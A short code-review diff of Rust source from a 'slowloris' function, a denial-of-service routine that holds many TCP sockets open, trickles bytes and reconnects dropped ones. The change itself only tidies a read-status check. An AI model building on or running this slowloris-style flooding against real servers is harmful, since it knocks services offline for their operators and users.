@@ -106,7 +106,7 @@ fn slowloris(settings: &str, count: u32, addresses: u32, most_open: usize) {
             let mut sockets: Vec<TcpStream> = (0..count).map(connect).collect();
             while !over.load(Ordering::Relaxed) {
                 for (stream, n) in sockets.iter_mut().zip(0..) {
-                    let gone = matches!(stream.read(&mut [0; 512]), Ok(_)) || stream.write(b"a").is_err();
+                    let gone = stream.read(&mut [0; 512]).is_ok() || stream.write(b"a").is_err();
                     if gone && n % 50 == 0 {
                         *stream = connect(n);
                     }
